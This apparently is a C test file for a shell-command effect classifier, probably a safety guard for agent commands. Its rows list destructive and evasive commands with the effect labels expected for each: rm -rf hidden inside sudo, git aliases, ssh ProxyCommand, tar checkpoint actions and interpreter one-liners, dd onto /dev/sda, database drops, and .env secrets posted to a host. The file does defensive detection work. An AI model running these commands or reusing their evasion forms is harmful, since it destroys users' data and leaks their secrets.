/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Wrappers, and what programs do, by their manuals; arities are those of the
 * programs of Debian 12.
 */
#include "effects_test.h"

#define X    "E delete /home/me/x home"
#define RM_X "C rm -rf /home/me/x"

static void wrappers(void)
{
	static const struct row rows[] = {
		{ "sudo -u root -- rm -rf ~/x",
		  { RM_X, "E privilege:sudo root" } },
		{ "sudo A=1 rm -rf ~/x", { RM_X } },
		{ "sudo -l rm", { NULL }, { "C rm" } },
		{ "env -u A B=1 rm -rf ~/x", { RM_X } },
		{ "env -S 'rm -rf /home/me/x'", { RM_X } },
		{ "timeout --foreground 1h nice -5 ionice -c 2 -n 7 stdbuf -oL "
		  "-eL rm -rf ~/x",
		  { RM_X } },
		{ "timeout -k 5 -s KILL 10 rm -rf ~/x", { RM_X } },
		{ "nohup setsid -w rm -rf ~/x", { RM_X } },
		{ "flock -w 5 lock rm -rf ~/x", { RM_X } },
		{ "flock lock -c 'rm -rf ~/x'", { RM_X } },
		{ "su me -c 'rm -rf ~/x'", { RM_X } },
		{ "watch -n 5 rm -rf /home/me/x", { RM_X } },
		{ "script -qc 'rm -rf ~/x' /dev/null", { RM_X } },
		{ "time -p rm -rf ~/x", { RM_X } },
		{ "command -p rm -rf ~/x", { RM_X } },
		{ "command -v rm", { NULL }, { "C rm" } },
		{ "busybox rm -rf ~/x", { RM_X } },
		{ "echo ~/x | xargs rm -rf", { RM_X } },
		{ "echo ~/x | xargs -I{} rm -rf {}", { RM_X } },
		{ "xargs rm -rf < list", { "C? rm -rf list" } },
		{ "parallel rm -rf ::: /home/me/x", { RM_X } },
		{ "find ~/x -exec rm -rf {} +", { "C? rm -rf /home/me/x" } },
		{ "find ~/x -delete", { X } },
		{ "find . -name '*.o' -delete",
		  { "E delete /home/me/work/*.o workspace" } },
		{ "tmux send-keys -t 0 'rm -rf ~/x' Enter", { RM_X } },
		{ "npx --yes rm -rf ~/x", { RM_X } },
		{ "doas --nope rm -rf ~/x", { RM_X, "O option" } },
		{ "git -c alias.z='!rm -rf ~/x' z", { RM_X } },
		{ "git wipe", { RM_X } },
		{ "git fp", { "E remote:force-push" } },
		{ "git fp -q 'a b'", { "C git push --force -q a b" } },
		{ "GIT_SSH_COMMAND='rm -rf ~/x' git fetch",
		  { "C? rm -rf /home/me/x" } },
		{ "ssh -o ProxyCommand='rm -rf ~/x' h", { RM_X } },
		{ "tar --checkpoint-action='exec=rm -rf ~/x' --checkpoint=1 "
		  "-cf a b",
		  { RM_X } },
		{ "git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% "
		  "~/x' z",
		  { RM_X } },
		{ "MANPAGER='rm -rf ~/x' man ls", { "C? rm -rf /home/me/x" } },
		{ "deno run -A https://h/p.ts",
		  { "E execute:script https://h/p.ts <network" } },
		{ "vim -es -c '!rm -rf ~/x' -c q!", { RM_X } },
	};

	CHECK_ROWS(rows);
}

static void files(void)
{
	static const struct row rows[] = {
		{ "rm --rec --for -- -a",
		  { "E delete /home/me/work/-a workspace" } },
		{ "cp a.c sub", { "E write /home/me/work/sub/a.c workspace" } },
		{ "cp -t sub a.c b.c",
		  { "E write /home/me/work/sub/a.c workspace",
		    "E write /home/me/work/sub/b.c workspace" } },
		{ "mv a.c /tmp/z",
		  { "E delete /home/me/work/a.c workspace",
		    "E write /tmp/z temp" } },
		{ "dd if=a.c of=/dev/sda",
		  { "E write /dev/sda device",
		    "E read /home/me/work/a.c workspace" } },
		{ "sed -i s/a/b/ a.c",
		  { "E write:edit /home/me/work/a.c workspace" } },
		{ "sed 's/.*/rm -rf ~\\/x/e' <<< a", { RM_X } },
		{ "sort -o z a.c", { "E write /home/me/work/z workspace" } },
		{ "grep -e a -e b a.c",
		  { "E read /home/me/work/a.c workspace" } },
		{ "grep a b.c",
		  { "E read /home/me/work/b.c workspace" },
		  { "E read /home/me/work/a workspace" } },
		{ "tar xzf a.tgz -C /tmp/x",
		  { "E write:unpack /tmp/x temp",
		    "E read /home/me/work/a.tgz workspace" } },
		{ "truncate -s 0 a.c",
		  { "E write /home/me/work/a.c workspace" } },
		{ "rm --help ~/x", { NULL }, { X } },
		{ "chmod -R 777 ~", { "E chmod /home/me home" } },
	};

	CHECK_ROWS(rows);
}

/* Debian's programs did this in a throw-away world (tests/shadow). */
static void seen(void)
{
	static const struct row rows[] = {
		{ "flock lock ls", { "E write /home/me/work/lock workspace" } },
		{ "flock 9", { NULL }, { "E write" } },
		{ "xargs -a a.c rm", { "E read /home/me/work/a.c workspace" } },
		{ "find sub -exec chmod 600 {} +",
		  { "C? chmod 600 sub", "C? chmod 600 sub/*" } },
		{ "find sub -maxdepth 0 -exec chmod 600 {} +",
		  { "C? chmod 600 sub" },
		  { "C? chmod 600 sub/*" } },
		{ "ln -s a.c sub", { "E write /home/me/work/sub/a.c" } },
		{ "ln -sn a.c sub", { "E write /home/me/work/sub workspace" } },
		{ "ln -s a.c b.c sub",
		  { "E write /home/me/work/sub/a.c",
		    "E write /home/me/work/sub/b.c" } },
		{ "tar cf a.tar -C sub .",
		  { "E write /home/me/work/a.tar workspace",
		    "E read /home/me/work/sub workspace" } },
		{ "tar cf a.tar --exclude=.env b.c",
		  { "E read /home/me/work/b.c workspace" },
		  { "E read /home/me/work/.env workspace",
		    "E read /home/me/work/a.tar workspace" } },
		{ "mktemp -d", { "E write /tmp/tmp.XXXXXX temp" } },
		{ "mktemp f.XXXX",
		  { "E write /home/me/work/f.XXXXXX workspace" } },
		{ "mktemp -p sub f.XXXX",
		  { "E write /home/me/work/sub/f.XXXXXX workspace" } },
		{ "mktemp -u", { NULL }, { "E write" } },
		{ "grep -r x --include='*.c'",
		  { "E read /home/me/work workspace" } },
		{ "grep -r x sub",
		  { "E read /home/me/work/sub workspace" },
		  { "E read /home/me/work workspace" } },
		{ "bash -n a.c", { "E read /home/me/work/a.c workspace" } },
		{ "shred -u a.c",
		  { "E write:shred /home/me/work/a.c workspace",
		    "E delete /home/me/work/a.c workspace" } },
		{ "git clone https://h/x/p.git",
		  { "E write /home/me/work/p workspace" } },
		{ "git clone -q h:p.git/ q",
		  { "E write /home/me/work/q workspace" },
		  { "E write /home/me/work/p" } },
		{ "git checkout other", { "E git:checkout" } },
		{ "awk -i inplace 1 a.c",
		  { "E write:edit /home/me/work/a.c workspace" } },
		{ "git stash apply", { "E git:stash-pop" } },
		{ "npm pkg set scripts.x='rm y' && npm run x",
		  { "E write:manifest /home/me/work/package.json",
		    "O script" } },
	};

	CHECK_ROWS(rows);
}

/* The same, of find and xargs, and of what makes files beside its operands. */
static void seen_lists(void)
{
	static const struct row rows[] = {
		{ "find . -name a.c -delete",
		  { "E delete /home/me/work/a.c workspace",
		    "E delete /home/me/work/*/a.c workspace" } },
		{ "find . -maxdepth 1 -name a.c -delete",
		  { "E delete /home/me/work/a.c workspace" },
		  { "E delete /home/me/work/*/a.c workspace" } },
		{ "find . \\( -name '*.o' -o -name '*.a' \\) -delete",
		  { "E delete /home/me/work/*.o workspace",
		    "E delete /home/me/work/*.a workspace" },
		  { "E delete /home/me/work/* workspace" } },
		{ "find . -name .git -prune -o -name '*.o' -delete",
		  { "E delete /home/me/work/*.o workspace" },
		  { "E delete /home/me/work/.git workspace" } },
		{ "find . -name '*.o' -o -type f -delete",
		  { "E delete /home/me/work/* workspace" } },
		{ "find . ! -name '*.o' -delete",
		  { "E delete /home/me/work/* workspace" },
		  { "E delete /home/me/work/*.o workspace" } },
		{ "find sub -name 's*' -exec chmod 600 {} \\;",
		  { "C? chmod 600 sub", "C? chmod 600 sub/s*" } },
		{ "find sub | xargs chmod 600", { "C? chmod 600 sub sub/*" } },
		{ "printf '%s\\0' a 'b c' | xargs -0 rm", { "C rm a b c" } },
		{ "echo \"'a b' c\" | xargs rm", { "C rm a b c" } },
		{ "echo a,b | xargs -d , rm", { "C rm a b" } },
		{ "split -l 1 a.c p.", { "E write /home/me/work/p.*" } },
		{ "gzip a.c",
		  { "E write:compress /home/me/work/a.c.gz workspace",
		    "E delete:compress /home/me/work/a.c workspace" } },
		{ "gzip -c a.c",
		  { "E read /home/me/work/a.c workspace" },
		  { "E write", "E delete" } },
		{ "gunzip -k a.gz",
		  { "E write:compress /home/me/work/a workspace" },
		  { "E delete" } },
		{ "sh -c \"rm \\$'a'\"", { "O foreign" } },
		{ "bash -c \"rm \\$'a'\"", { "C rm a" }, { "O foreign" } },
	};

	CHECK_ROWS(rows);
}

/* Calls that start a program: which argument is which word. */
static void started(void)
{
	static const struct row rows[] = {
		{ "python3 -c 'import os; "
		  "os.execlp(\"rm\",\"rm\",\"-rf\",\"/etc\")'",
		  { "E delete /etc" } },
		{ "python3 -c 'import os; "
		  "os.execvp(\"rm\",[\"rm\",\"-rf\",\"/etc\"])'",
		  { "E delete /etc" } },
		{ "python3 -c 'import os; "
		  "os.spawnlp(os.P_WAIT,\"rm\",\"rm\",\"-rf\",\"/etc\")'",
		  { "E delete /etc" } },
		{ "node -e "
		  "'require(\"child_process\").spawnSync(\"rm\",[\"-rf\",\"/"
		  "etc\"])'",
		  { "E delete /etc" } },
		{ "node -e "
		  "'require(\"child_process\").execFileSync(\"rm\",[\"-rf\",\"/"
		  "etc\"],{stdio:\"inherit\"})'",
		  { "E delete /etc" } },
		{ "perl -e 'system(\"rm\",\"-rf\",\"/etc\")'",
		  { "E delete /etc" } },
		{ "ruby -e 'exec \"rm\", \"-rf\", \"/etc\"'",
		  { "E delete /etc" } },
		{ "mongosh --eval 'require(\"child_process\").execSync(\"rm "
		  "-rf /etc\")'",
		  { "E delete /etc" } },
	};

	CHECK_ROWS(rows);
}

static void others(void)
{
	static const struct row rows[] = {
		{ "git push origin +main", { "E remote:force-push main" } },
		{ "git push origin :old", { "E remote:delete-ref old" } },
		{ "git push -nf origin main",
		  { NULL },
		  { "E remote:force-push" } },
		{ "git reset --hard HEAD~1", { "E git:reset-hard HEAD~1" } },
		{ "git commit -nm x", { "E git:hook-skip" } },
		{ "git commit -m -n",
		  { "E git:commit" },
		  { "E git:hook-skip" } },
		{ "chmod -x .git/hooks/pre-commit",
		  { "E chmod /home/me/work/.git/hooks/pre-commit workspace" } },
		{ "mongosh prod --eval 'db.dropDatabase()'",
		  { "E database:drop db.dropDatabase()" } },
		{ "psql -c 'drop /* x */ table t'",
		  { "E database:drop table t" } },
		{ "echo \"select 'drop table t'\" | psql",
		  { "E database:read" },
		  { "E database:drop table t" } },
		{ "mysql -e 'delete from t'", { "E database:delete-all t" } },
		{ "mysql -e 'delete from t where id = 3'",
		  { "E database:delete t" } },
		{ "python3 -c 'import shutil; shutil.rmtree(\"/home/me/x\")'",
		  { "E delete:shutil.rmtree /home/me/x home", "O partly" } },
		{ "python3 -c 'import os; os.system(\"rm -rf ~/x\")'",
		  { RM_X } },
		{ "python3 - <<'E'\nimport subprocess\nsubprocess.run(['rm', "
		  "'-rf', '/home/me/x'])\nE",
		  { RM_X } },
		{ "python3 -c 'print(\"rm -rf ~/x\")'", { "O partly" }, { X } },
		{ "node -e 'require(\"fs\").rmSync(\"/home/me/x\", {recursive: "
		  "true})'",
		  { "E delete:rmSync /home/me/x home" } },
		{ "node -e "
		  "'console.log(require(\"fs\").rmSync(\"/home/me/x\"))'",
		  { "E delete:rmSync /home/me/x home" } },
		{ "python3 -c 'import subprocess as s; s.run([\"rm\", \"-rf\", "
		  "\"/home/me/x\"])'",
		  { RM_X } },
		{ "perl -e 'unlink \"/home/me/x\"'",
		  { "E delete:unlink /home/me/x home" } },
		{ "awk 'BEGIN { system(\"rm -rf ~/x\") }'", { RM_X } },
		{ "docker run --privileged i", { "E container:privileged" } },
		{ "docker compose down -v", { "E container:remove-volume" } },
		{ "npm publish", { "E publish:registry" } },
		{ "npm publish --dry-run", { NULL }, { "E publish:registry" } },
		{ "nosuchprogram a", { "C nosuchprogram a", "O unlisted" } },
	};

	CHECK_ROWS(rows);
}

/* Code of other languages, past single literals. */
static void code(void)
{
	static const struct row rows[] = {
		{ "python3 -c 'import os\nfor r, d, fs in "
		  "os.walk(\"/home/me/x\"):\n for f in fs: "
		  "os.remove(os.path.join(r, f))'",
		  { "E delete:os.remove /home/me/x/*/fs home" } },
		{ "python3 -c 'import os; [os.remove(p) for p in "
		  "os.listdir(\"/home/me/x\")]'",
		  { "E delete:os.remove /home/me/x/* home" } },
		{ "python3 -c 'import pathlib\nfor p in "
		  "pathlib.Path.home().rglob(\"*\"): p.unlink()'",
		  { "E delete:unlink /home/me/* home" } },
		{ "python3 -c 'import tempfile, shutil\nd = "
		  "tempfile.mkdtemp()\nshutil.rmtree(d)'",
		  { "E delete:shutil.rmtree /tmp/tmp.XXXXXX temp" } },
		{ "python3 -c 'import os, shutil\nh = "
		  "os.path.expanduser(\"~\")\nshutil.rmtree(f\"{h}/x\")'",
		  { "E delete:shutil.rmtree /home/me/x home" } },
		{ "node -e 'for (const f of fs.readdirSync(\"/home/me/x\")) "
		  "fs.rmSync(f)'",
		  { "E delete:fs.rmSync /home/me/x/* home" } },
		{ "perl -e 'exec qw(rm -rf), \"$ENV{HOME}/x\"'", { RM_X } },
		{ "perl -e 'system(qw{rm -rf /home/me/x})'", { RM_X } },
		{ "perl -e 'unlink glob(\"/home/me/x/*\")'",
		  { "E delete:unlink /home/me/x/* home" } },
		{ "perl -e 'use File::Find; find(sub { unlink $_ }, "
		  "\"/home/me/x\")'",
		  { "E delete:find /home/me/x home" } },
		{ "perl -e 'use File::Find; find(sub { print $_ }, "
		  "\"/home/me/x\")'",
		  { "O partly" },
		  { "E delete:find" } },
	};

	CHECK_ROWS(rows);
}

/* What the shell's own commands and other programs keep and show. */
static void kept(void)
{
	static const struct row rows[] = {
		{ "expect -c 'exec rm -rf /home/me/x'", { RM_X } },
		{ "npm pkg set scripts.a='rm -rf ~/x'", { RM_X } },
		{ "declare -n r='a[$(rm -rf ~/x)]'", { RM_X } },
		{ "history -s 'rm -rf ~/x'; fc -s", { RM_X } },
		{ "history -s 'rm -rf ~/x'", { NULL }, { X } },
		{ "python3 -c 'open(chr(46)+\"env\").read()'",
		  { "E read:open /home/me/work/.env workspace" } },
		{ "node -e "
		  "'fs.readFileSync(String.fromCharCode(46,101,110,118))'",
		  { "E read:fs.readFileSync /home/me/work/.env workspace" } },
		{ "sqlite3 a.db 'select * from t'",
		  { "E read /home/me/work/a.db workspace" },
		  { "E write" } },
		{ "sqlite3 a.db 'update t set a = 1'",
		  { "E write /home/me/work/a.db workspace" } },
		{ "psql -c \"select * from t where id = '$X'\"",
		  { "E database:read" },
		  { "O code" } },
		{ "psql -c \"select 1; $X\"", { "O code" } },
		{ "echo \"$API_TOKEN\"", { "E secret:variable API_TOKEN" } },
		{ "echo \"${API_TOKEN:+set}\"",
		  { NULL },
		  { "E secret:variable" } },
		{ "echo \"$API_TOKEN\" | wc -c",
		  { NULL },
		  { "E secret:variable" } },
		{ "echo \"$NAME\"", { NULL }, { "E secret:variable" } },
	};

	CHECK_ROWS(rows);
}

/* A command of a database's client ends with its line. */
static void client_commands(void)
{
	static const struct row rows[] = {
		{ "psql -c '\\set x 1\ndrop table t;'",
		  { "E database:drop table t" } },
		{ "sqlite3 a.db '.mode csv\ndrop table t;'",
		  { "E database:drop table t" } },
		{ "mysql <<< 'use shop\ndrop table t;'",
		  { "E database:connect shop", "E database:drop table t" } },
		{ "psql -c '\\c shop'", { "E database:connect shop" } },
		{ "sqlite3 a.db \"attach 'b.db' as b\"",
		  { "E database:connect" } },
	};

	CHECK_ROWS(rows);
}

/* Questions to a repository and to a project. */
static void looked_at(void)
{
#define PUSHED "E git:rewrite-pushed"
#define OTHER  "E package:other-manager"
	static const struct row rows[] = {
		{ "git -C ~/repo commit --amend", { PUSHED } },
		{ "cd ~/repo && git rebase -i HEAD~2", { PUSHED } },
		{ "cd ~/repo && git rebase --abort", { NULL }, { PUSHED } },
		{ "cd ~/repo && git commit -m x", { NULL }, { PUSHED } },
		/* in the log of the remote's branch, from a work tree */
		{ "cd ~/tree && git commit --amend", { PUSHED } },
		{ "git commit --amend", { NULL }, { PUSHED } },
		{ "git push; git commit --amend", { PUSHED } },
		{ "cd ~/own && git commit --amend", { NULL }, { PUSHED } },
		/* what cannot be read counts as pushed */
		{ "cd ~/odd && git commit --amend", { PUSHED } },
		{ "cd ~/piped && git commit --amend", { PUSHED } },
		{ "cd ~/huge && git commit --amend", { PUSHED } },
		{ "touch pnpm-lock.yaml; npm i x",
		  { OTHER " pnpm-lock.yaml" } },
		{ "touch pnpm-lock.yaml; cd sub; npm i x", { OTHER } },
		{ "touch pnpm-lock.yaml; pnpm add x", { NULL }, { OTHER } },
		{ "touch pnpm-lock.yaml; npm i -g x", { NULL }, { OTHER } },
		{ "touch yarn.lock package-lock.json; npm i",
		  { NULL },
		  { OTHER } },
		{ "touch poetry.lock; pip install x", { OTHER } },
		{ "touch uv.lock; npm i x", { NULL }, { OTHER } },
	};

	CHECK_ROWS(rows);
}

/* Scripts that are left outside of the workspace. */
static void staged(void)
{
	static const struct row rows[] = {
		{ "printf '#!/bin/sh\nrm -rf ~/x\n' > /tmp/x",
		  { "S /tmp/x" },
		  { X } },
		{ "echo 'rm -rf ~/x' > ~/x.sh", { "S /home/me/x.sh" } },
		{ "echo 'rm -rf ~/x' > /tmp/x.txt", { NULL }, { "S" } },
		{ "echo 'rm -rf ~/x' > x.sh", { NULL }, { "S" } },
		{ "echo 'rm -rf ~/x' > /tmp/x.sh; sh /tmp/x.sh",
		  { X },
		  { "S" } },
		/* the limit is a fact */
		{ "for i in a b c d e f g h i j k l m n o p; do "
		  "echo ls > /tmp/$i.sh; done",
		  { "S /tmp/p.sh" },
		  { "O limit" } },
		{ "for i in a b c d e f g h i j k l m n o p q; do "
		  "echo ls > /tmp/$i.sh; done",
		  { "S /tmp/p.sh", "O limit" },
		  { "S /tmp/q.sh" } },
	};

	CHECK_ROWS(rows);
}

/* fd as find, files by address, the items of HTTPie. */
static void forms(void)
{
	static const struct row rows[] = {
		{ "fd . ~/x -X rm -rf", { "E delete /home/me/x/* home" } },
		{ "fd -e pyc -x rm",
		  { "E delete /home/me/work/*.pyc workspace" } },
		{ "fd '\\.o$' sub -x rm {} \\; ",
		  { "E delete /home/me/work/sub/*o* workspace" } },
		{ "fd pattern", { NULL }, { "E delete" } },
		{ "find . -name .git -prune -exec rm -rf {} +",
		  { "E delete /home/me/work/.git workspace" } },
		{ "curl file:///home/me/work/.env",
		  { "E read /home/me/work/.env workspace secret=high" } },
		{ "http POST h f@.env", { "E network h <secret" } },
		{ "xh h x=me@.env", { NULL }, { "E network h <secret" } },
		{ "curl --data-urlencode x@.env https://h",
		  { "E network https://h <secret" } },
		{ "redis-cli config set dir /", { "E database:setting" } },
		{ "git -c gc.pruneExpire=now gc", { "E git:recovery" } },
	};

	CHECK_ROWS(rows);
}

int main(void)
{
	RUN(wrappers);
	RUN(files);
	RUN(seen);
	RUN(seen_lists);
	RUN(started);
	RUN(others);
	RUN(code);
	RUN(kept);
	RUN(client_commands);
	RUN(looked_at);
	RUN(staged);
	RUN(forms);
	return tap_end();
}
